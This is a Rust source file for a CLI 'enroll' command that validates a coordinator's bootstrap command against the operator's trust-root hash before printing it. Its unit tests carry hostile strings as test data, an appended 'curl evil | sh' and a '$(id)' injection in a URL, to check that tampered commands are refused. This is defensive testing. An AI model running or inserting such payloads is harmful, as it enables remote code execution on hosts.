//! `drover enroll HOSTNAME --trust trust.json`: creates the host on the coordinator and prints
//! the one command to run on it.
//!
//! The operator's own `trust.json` is the anchor: it must be valid trust roots, and its sha256
//! (of the exact file bytes) goes into the bootstrap command, so the agent refuses to enroll
//! unless the coordinator serves byte-identical trust roots. The coordinator never decides
//! which CI keys a host trusts.
//!
//! stdout carries only the command line (so `cmd=$(drover enroll …)` works); the host id and
//! the token's expiry go to stderr. The command embeds the one-time token: treat it as a
//! secret until it has run or expired.

use std::io::Write;
use std::path::PathBuf;

use clap::Args;
use drover_proto::enroll::{CreateHostRequest, CreateHostResponse};
use drover_proto::trust::TrustRoots;
use sha2::{Digest, Sha256};

use crate::client::{self, ConnectArgs};
use crate::exit::{CliError, codes};
use crate::fsio::read_file;

/// The operator route that creates a host.
const HOSTS_PATH: &str = "/v1/hosts";

/// Arguments of `drover enroll`.
#[derive(Args)]
pub struct EnrollArgs {
    /// The host's name (RFC 1123, lowercase).
    hostname: String,
    /// The operator's CI trust roots; the agent refuses the coordinator's copy unless it has
    /// this file's sha256.
    #[arg(long, value_name = "FILE")]
    trust: PathBuf,
    /// Lifetime of the one-time enrollment token (default: the coordinator's, 2 h).
    #[arg(long, value_name = "SECS", value_parser = clap::value_parser!(u64).range(1..))]
    token_ttl: Option<u64>,
    #[command(flatten)]
    connect: ConnectArgs,
}

/// Lowercase hex sha256 of `bytes` after checking they are valid trust roots; `name` names the
/// file in errors.
pub fn trust_sha256(name: &str, bytes: &[u8]) -> Result<String, CliError> {
    TrustRoots::from_json(bytes).map_err(|e| CliError::data(format!("{name}: not valid trust roots: {e}")))?;
    Ok(hex::encode(Sha256::digest(bytes)))
}

/// The operator pastes this into a root shell on the new host, so it is not taken on trust:
/// the URL and pin are read from it, every part is checked against its alphabet, and the
/// command must be exactly the one this CLI would build from them, the host id, the token and
/// the operator's own trust hash. Anything else (a swapped hash, appended shell) is refused.
fn checked_command(resp: &CreateHostResponse, trust_sha256: &str) -> Result<String, CliError> {
    let command = resp.command.expose();
    let between = |after: &str| command.split_once(after).and_then(|(_, rest)| rest.split_once('\'')).map(|(v, _)| v.to_owned());
    let refuse = |why: String| {
        CliError::new(codes::PROTOCOL, format!("the coordinator returned an unexpected bootstrap command ({why}); not printing it"))
    };
    let pin = between("--pinnedpubkey '").ok_or_else(|| refuse("no pin".into()))?;
    let url = between("--url '").ok_or_else(|| refuse("no url".into()))?;
    drover_proto::enroll::check_command_parts(&url, &pin, &resp.host_id, resp.token.expose(), trust_sha256)
        .map_err(|e| refuse(e.to_string()))?;
    let expected = drover_proto::enroll::bootstrap_command(&url, &pin, &resp.host_id, resp.token.expose(), trust_sha256);
    if command != expected {
        return Err(refuse("it differs from the expected form".into()));
    }
    Ok(expected)
}

/// Runs `drover enroll`.
pub fn run(args: &EnrollArgs) -> Result<(), CliError> {
    drover_proto::names::check_hostname(&args.hostname).map_err(|e| CliError::usage(format!("HOSTNAME: {e}")))?;
    // Every HOST argument is tried as an id first; the coordinator refuses such a name too.
    drover_proto::names::check_not_an_id("hostname", &args.hostname).map_err(|e| CliError::usage(format!("HOSTNAME: {e}")))?;
    let target = args.connect.resolve()?;
    let hash = trust_sha256(&args.trust.display().to_string(), &read_file(&args.trust)?)?;
    let client = client::connect(&target)?;
    let request = CreateHostRequest { hostname: args.hostname.clone(), trust_sha256: hash, token_ttl_secs: args.token_ttl };
    // (the hash is kept: the command the coordinator returns must carry exactly it)
    let resp: CreateHostResponse = crate::client::block_on(client.post_json(HOSTS_PATH, &request))?;
    let command = checked_command(&resp, &request.trust_sha256)?;
    eprintln!(
        "host {} created as {}; its one-time enrollment token expires at {}. Run this on the host:",
        resp.hostname, resp.host_id, resp.expires_at
    );
    let mut out = std::io::stdout().lock();
    writeln!(out, "{command}").and_then(|()| out.flush()).map_err(|e| CliError::new(codes::IO, format!("cannot write stdout: {e}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn response(command: String) -> CreateHostResponse {
        CreateHostResponse {
            host_id: "5b0f2c7e-4d4e-4f51-9a36-0d6c1f4f3a10".into(),
            hostname: "gpu-01".into(),
            token: drover_proto::task::Secret::new("tok_EN-1"),
            expires_at: drover_proto::time::Time::EPOCH,
            command: drover_proto::task::Secret::new(command),
        }
    }

    #[test]
    fn a_tampered_bootstrap_command_is_not_printed() {
        let hash = "a".repeat(64);
        let good = drover_proto::enroll::bootstrap_command(
            "https://coord.example:8443",
            "sha256//AbC+/=",
            "5b0f2c7e-4d4e-4f51-9a36-0d6c1f4f3a10",
            "tok_EN-1",
            &hash,
        );
        assert_eq!(checked_command(&response(good.clone()), &hash).expect("the coordinator's own form"), good);
        // Another trust hash than the operator's: a coordinator swapping the CI keys.
        assert!(checked_command(&response(good.replace(&hash, &"b".repeat(64))), &hash).is_err());
        // Shell appended to the command.
        assert!(checked_command(&response(format!("{good}; curl evil | sh")), &hash).is_err());
        // Shell hidden in the URL.
        let evil_url = drover_proto::enroll::bootstrap_command(
            "https://x$(id)",
            "sha256//AbC",
            "5b0f2c7e-4d4e-4f51-9a36-0d6c1f4f3a10",
            "tok_EN-1",
            &hash,
        );
        assert!(checked_command(&response(evil_url), &hash).is_err());
    }

    #[test]
    fn only_valid_trust_roots_are_hashed() {
        let e = trust_sha256("t.json", b"{\"schemaVersion\":1,").expect_err("malformed");
        assert_eq!(e.code(), codes::DATA);
        assert!(e.to_string().starts_with("t.json: "), "{e}");
        let e = trust_sha256("t.json", br#"{"schemaVersion":1,"ci":{"threshold":2,"keys":[]}}"#).expect_err("unreachable threshold");
        assert_eq!(e.code(), codes::DATA);
    }
}
